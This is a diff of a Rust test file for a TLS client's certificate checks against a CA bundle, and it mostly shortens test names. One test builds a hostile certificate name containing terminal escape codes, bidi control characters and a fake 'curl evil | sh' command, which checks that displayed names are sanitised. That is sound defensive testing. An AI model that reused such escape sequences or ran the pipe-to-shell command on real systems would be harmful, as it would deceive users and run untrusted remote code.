@@ -95,7 +95,7 @@ fn refused(chain: &[&Certificate], bundle: &[&Certificate], reason: &str) {
 }
 
 #[test]
-fn a_certificate_that_cannot_be_read_is_named_and_the_others_are_used() {
+fn an_unreadable_certificate_is_named_and_the_others_are_used() {
     let authority = Certificate::authority(&[]);
     let leaf = Certificate::leaf(Some(&authority));
     let good = &authority.pem;
@@ -127,7 +127,7 @@ fn relabeled(pem: &str, label: &str, auxiliary: &[u8]) -> String {
 }
 
 #[test]
-fn certificates_under_the_labels_of_other_programs_count_unless_they_are_not_trusted_for_servers() {
+fn certificates_with_other_labels_are_used_if_trusted_for_servers() {
     const SERVER: &[u8] = &[0x30, 0x0a, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x01];
     const EMAIL: &[u8] = &[0x30, 0x0a, 0x06, 0x08, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x07, 0x03, 0x04];
     let authority = Certificate::authority(&[]);
@@ -159,7 +159,7 @@ fn certificates_under_the_labels_of_other_programs_count_unless_they_are_not_tru
 }
 
 #[test]
-fn a_ca_in_the_bundle_vouches_for_servers() {
+fn a_ca_in_the_bundle_is_trusted() {
     let usages: [&[KeyUsagePurpose]; 2] = [&[], &[KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign]];
     for usages in usages {
         let authority = Certificate::authority(usages);
@@ -173,7 +173,7 @@ fn a_ca_in_the_bundle_vouches_for_servers() {
 }
 
 #[test]
-fn a_servers_own_certificate_in_the_bundle_is_trusted_as_its_own() {
+fn a_server_certificate_in_the_bundle_is_trusted_for_that_server() {
     let authority = Certificate::authority(&[]);
     let (self_signed, issued) = (Certificate::leaf(None), Certificate::leaf(Some(&authority)));
     let marked_as_a_ca = Certificate::new("127.0.0.1", None, |it| it.is_ca = IsCa::Ca(BasicConstraints::Unconstrained));
@@ -185,7 +185,7 @@ fn a_servers_own_certificate_in_the_bundle_is_trusted_as_its_own() {
 }
 
 #[test]
-fn a_servers_own_certificate_in_the_bundle_vouches_for_nobody_else() {
+fn a_server_certificate_in_the_bundle_is_not_trusted_as_a_ca() {
     let authority = Certificate::authority(&[]);
     let signs_without_being_a_ca = |usages: &[KeyUsagePurpose], is_ca: IsCa| {
         let usages = usages.to_vec();
@@ -213,7 +213,7 @@ fn a_servers_own_certificate_in_the_bundle_vouches_for_nobody_else() {
 }
 
 #[test]
-fn name_dates_bytes_and_key_of_a_servers_own_certificate_count() {
+fn a_server_certificate_in_the_bundle_must_match_name_dates_bytes_and_key() {
     let of = |host: &str, change: fn(&mut CertificateParams)| Certificate::new(host, None, change);
     let another_name = of("127.0.0.2", |_| {});
     refused(&[&another_name], &[&another_name], "is for 127.0.0.2, not for 127.0.0.1");
@@ -253,7 +253,7 @@ fn address(first: u8) -> GeneralSubtree {
 }
 
 #[test]
-fn an_anchor_that_has_expired_vouches_for_nobody_and_the_rest_of_the_bundle_counts() {
+fn an_expired_anchor_is_ignored_and_the_rest_of_the_bundle_is_used() {
     let expired = ca("expired.example", None, |it| it.not_after = date_time_ymd(2021, 1, 1));
     let of_the_future = ca("future.example", None, |it| it.not_before = date_time_ymd(2098, 1, 1));
     let renewed = ca("expired.example", None, |_| {});
@@ -273,7 +273,7 @@ fn an_anchor_that_has_expired_vouches_for_nobody_and_the_rest_of_the_bundle_coun
 }
 
 #[test]
-fn the_limits_of_a_ca_in_the_bundle_are_those_that_openssl_holds_it_to() {
+fn constraints_of_a_ca_in_the_bundle_apply_as_in_openssl() {
     let clients_only = ca("clients.example", None, |it| it.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth]);
     refused(&[&Certificate::leaf(Some(&clients_only))], &[&clients_only], "lacks serverAuth");
     let for_both = [ExtendedKeyUsagePurpose::ClientAuth, ExtendedKeyUsagePurpose::ServerAuth];
@@ -293,7 +293,7 @@ fn the_limits_of_a_ca_in_the_bundle_are_those_that_openssl_holds_it_to() {
 }
 
 #[test]
-fn no_more_cas_stand_below_one_of_the_bundle_than_it_allows() {
+fn the_path_length_of_a_ca_in_the_bundle_applies() {
     let none = with_path_length("none.example", None, 0);
     trusted(&[&Certificate::leaf(Some(&none))], &[&none]);
     let below = ca("below.example", Some(&none), |_| {});
@@ -317,7 +317,7 @@ fn no_more_cas_stand_below_one_of_the_bundle_than_it_allows() {
 }
 
 #[test]
-fn a_leaf_that_a_ca_issued_vouches_for_nobody() {
+fn an_issued_leaf_is_not_trusted_as_a_ca() {
     let root = Certificate::authority(&[]);
     let issued = Certificate::new("minio.example", Some(&root), |it| it.is_ca = IsCa::ExplicitNoCa);
     let forged = Certificate::leaf(Some(&issued));
@@ -326,7 +326,7 @@ fn a_leaf_that_a_ca_issued_vouches_for_nobody() {
 }
 
 #[test]
-fn what_is_wrong_with_a_servers_certificate_is_said_in_words_with_what_to_do() {
+fn invalid_server_certificates_are_explained_with_a_hint() {
     let authority = Certificate::authority(&[]);
     let of = |change: fn(&mut CertificateParams)| Certificate::new("127.0.0.1", Some(&authority), change);
     let unmarked = Certificate::new("unmarked.example", None, |_| {});
@@ -370,7 +370,7 @@ fn what_is_wrong_with_a_servers_certificate_is_said_in_words_with_what_to_do() {
 }
 
 #[test]
-fn names_in_certificates_are_shown_without_what_a_terminal_obeys() {
+fn names_in_certificates_are_shown_without_control_characters() {
     let hostile = "\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\u{2028}\u{e0041}\nerror: run: curl evil | sh";
     let authority = ca("authority.example", None, |_| {});
     let other = ca("other.example", None, |it| it.distinguished_name.push(DnType::CommonName, hostile));
@@ -394,7 +394,7 @@ fn unknown_extension(parameters: &mut CertificateParams) {
 }
 
 #[test]
-fn a_ca_that_the_server_sent_may_do_no_more_than_one_of_the_bundle() {
+fn an_intermediate_ca_is_limited_like_one_of_the_bundle() {
     use ExtendedKeyUsagePurpose::{ClientAuth, CodeSigning, ServerAuth};
     use KeyUsagePurpose::{CrlSign, DigitalSignature, KeyCertSign};
     let root = Certificate::authority(&[]);
@@ -431,7 +431,7 @@ fn a_ca_that_the_server_sent_may_do_no_more_than_one_of_the_bundle() {
 }
 
 #[test]
-fn an_anchor_with_an_extension_that_nobody_knows_vouches_for_nobody() {
+fn an_anchor_with_an_unknown_critical_extension_is_not_trusted() {
     let strange = ca("strange.example", None, unknown_extension);
     let reason = "the issuer `strange.example` in the CA bundle has an unknown critical extension";
     refused(&[&Certificate::leaf(Some(&strange))], &[&strange], reason);
@@ -444,7 +444,7 @@ fn an_anchor_with_an_extension_that_nobody_knows_vouches_for_nobody() {
 }
 
 #[test]
-fn a_servers_own_certificate_in_the_bundle_must_be_for_servers() {
+fn a_server_certificate_in_the_bundle_must_be_for_server_authentication() {
     use ExtendedKeyUsagePurpose::{Any, ClientAuth, CodeSigning, EmailProtection, ServerAuth};
     let own = |purposes: &[ExtendedKeyUsagePurpose]| Certificate::new("127.0.0.1", None, |it| it.extended_key_usages = purposes.to_vec());
     for purposes in [&[ClientAuth][..], &[CodeSigning], &[EmailProtection, ClientAuth]] {
@@ -465,7 +465,7 @@ fn from_file(name: &str) -> Certificate {
 }
 
 #[test]
-fn a_key_that_cannot_be_used_is_named_and_whose_it_is() {
+fn an_unsupported_key_is_named_with_its_owner() {
     let mut table = Table::default();
     for name in ["rsa-1024", "p-521", "ed448"] {
         let own = from_file(&format!("{name}.pem"));
@@ -480,7 +480,7 @@ fn a_key_that_cannot_be_used_is_named_and_whose_it_is() {
 
 /// What OpenSSL answers where it has no certificate for what the client takes: the alert `handshake_failure`.
 #[test]
-fn a_server_without_a_certificate_for_us_is_told_which_keys_there_may_be() {
+fn a_server_without_a_supported_certificate_gets_a_list_of_key_types() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let endpoint = format!("https://{}", listener.local_addr().unwrap());
     std::thread::spawn(move || {
